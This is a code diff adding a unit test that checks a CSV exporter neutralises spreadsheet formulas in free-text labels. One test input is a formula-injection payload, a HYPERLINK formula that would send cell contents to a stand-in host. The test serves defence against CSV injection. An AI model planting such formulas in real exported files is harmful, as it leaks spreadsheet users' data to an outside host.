@@ -55,6 +55,13 @@ describe('labels of free text', () => {
     );
   });
 
+  it('are no formulas to a spreadsheet that opens the CSV', () => {
+    expect(write('csv', [turn('=HYPERLINK("http://e/?"&A1)')])).toContain(`,"'=HYPERLINK(""http://e/?""&A1)"\n`);
+    for (const label of ['=1+1', '+1', '-1', '@SUM(1)', '\tx'])
+      expect(write('csv', [turn(label)])).toContain(`,'${label}\n`);
+    expect(write('csv', [turn('a=1')])).toContain(',a=1\n');
+  });
+
   it('are quoted in CSV and come back whole', () => {
     expect(write('csv', [turn('a,b\n"c"')])).toBe('start,end,speaker\n0.000,1.000,"a,b\n""c"""\n');
   });
